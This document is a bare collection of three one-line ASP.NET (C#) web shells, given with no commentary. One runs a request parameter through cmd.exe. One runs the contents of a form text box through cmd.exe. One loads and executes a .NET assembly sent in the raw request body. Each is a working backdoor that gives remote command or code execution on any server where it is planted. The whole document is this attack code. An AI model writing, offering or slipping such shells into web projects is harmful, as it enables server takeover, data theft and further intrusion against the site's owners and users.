<%@ Page Language="C#"%><% var i = new System.Diagnostics.ProcessStartInfo("cmd.exe"); i.Arguments = "/c " + Request["c"]; System.Diagnostics.Process.Start(i); %>
<%@ Page Language="C#"%><script runat="server">void Go(object s, EventArgs e) { var i = new System.Diagnostics.ProcessStartInfo(); i.FileName = "cmd.exe"; i.Arguments = "/c" + Box.Text; System.Diagnostics.Process.Start(i); }</script>
<%@ Page Language="C#"%><% System.Reflection.Assembly.Load( Request.BinaryRead( Request.ContentLength ) ); %>
